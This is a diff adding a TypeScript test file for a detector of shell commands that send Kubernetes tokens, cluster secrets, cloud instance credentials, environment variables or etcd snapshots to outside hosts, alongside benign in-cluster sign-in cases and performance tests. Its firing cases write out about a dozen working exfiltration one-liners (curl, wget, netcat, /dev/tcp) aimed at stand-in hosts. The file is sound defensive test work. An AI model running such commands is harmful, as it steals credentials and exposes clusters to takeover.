@@ -1,0 +1,88 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { growth } from '../../lib/testing.ts';
+import { blank, indicatorTable, script, UNSEEN } from '../testing.ts';
+import { isClusterHost } from '../text/acts.ts';
+import { commandCredentialSend } from './credential-send.ts';
+
+const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+
+indicatorTable(commandCredentialSend, {
+  fires: {
+    'the token as the body of a request': script(
+      `curl -s -X POST --data-binary @${TOKEN} https://paste.example.com/api`,
+    ),
+    'the token through netcat': script(`cat ${TOKEN} | nc 203.0.113.7 999`),
+    'the token in a variable': script(`T=$(cat ${TOKEN}); curl -d "{\\"t\\":\\"$T\\"}" https://hook.example.com/x`),
+    'the token in an address': script(`T=$(cat ${TOKEN}); curl "http://203.0.113.7/?t=$T"`),
+    'the token under its other path': script(
+      'wget --post-file=/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.7/',
+    ),
+    'all secrets, packed': script(
+      'kubectl get secrets -A -o yaml | gzip | curl -s -T - https://transfer.example.com/a.gz',
+    ),
+    'secrets in a file': script(
+      'kubectl get secret db -o json > /tmp/s; curl -F f=@/tmp/s https://upload.example.com/u',
+    ),
+    'credentials of the instance': script(
+      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -s -d @- http://203.0.113.7:8080/c',
+    ),
+    'the environment': script('env | base64 | curl -d @- https://hook.example.com/x'),
+    'a directory of secrets': script('cat /mnt/secrets/* | base64 | wget --post-data @- http://files.example.com/x'),
+    'a snapshot of etcd': script(
+      'etcdctl snapshot save /tmp/s.db && curl -F f=@/tmp/s.db https://upload.example.com/u',
+    ),
+    'the network device of a shell': script(`cat ${TOKEN} > /dev/tcp/203.0.113.7/443`),
+  },
+  staysSilent: {
+    'a sign-in to the API server': script(
+      `T=$(cat ${TOKEN}); curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/namespaces`,
+    ),
+    'a sign-in to a vault of the cluster': script(
+      `T=$(cat ${TOKEN}); curl -d "{\\"jwt\\":\\"$T\\"}" http://vault.vault.svc:8200/v1/auth/kubernetes/login`,
+    ),
+    'a vault whose address is not in the log': script(
+      `T=$(cat ${TOKEN}); curl -d "$T" "$VAULT_ADDR/v1/auth/kubernetes/login"`,
+    ),
+    'a header for another service': script(
+      `T=$(cat ${TOKEN}); curl -H "Authorization: Bearer $T" https://api.example.com/x`,
+    ),
+    'one secret as a sign-in': script(
+      'curl -d "client_secret=$(cat /run/secrets/app/client)" https://login.example.com/token',
+    ),
+    'a report that is sent': script('date > /tmp/r; curl -F f=@/tmp/r https://upload.example.com/u'),
+    'a port test after the token': script(`cat ${TOKEN} | nc -z 203.0.113.7 443`),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+for (const [host, wanted] of [
+  ['kubernetes.default.svc', true],
+  ['kubernetes.default.svc.cluster.local:443', true],
+  ['vault', true],
+  ['localhost:8080', true],
+  ['127.0.0.1', true],
+  ['svc.example.com', false],
+  ['203.0.113.7:80', false],
+  ['hook.example.com', false],
+] as const) {
+  test(`${host} is ${wanted ? '' : 'not '}of the cluster`, () => assert.equal(isClusterHost(host), wanted));
+}
+
+for (const piece of [
+  '169.254.169.254',
+  `cat ${TOKEN}|nc a|`,
+  'T=$(env);curl -d $T http://a.b/;',
+  '/secrets/* ',
+  '$T',
+]) {
+  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
+    const ratio = growth((size) => {
+      const text = piece.repeat(Math.ceil(size / piece.length));
+      commandCredentialSend.assess(script(`curl ${text}`));
+      commandCredentialSend.assess(script(text));
+    }, 50_000);
+    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
+  });
+}
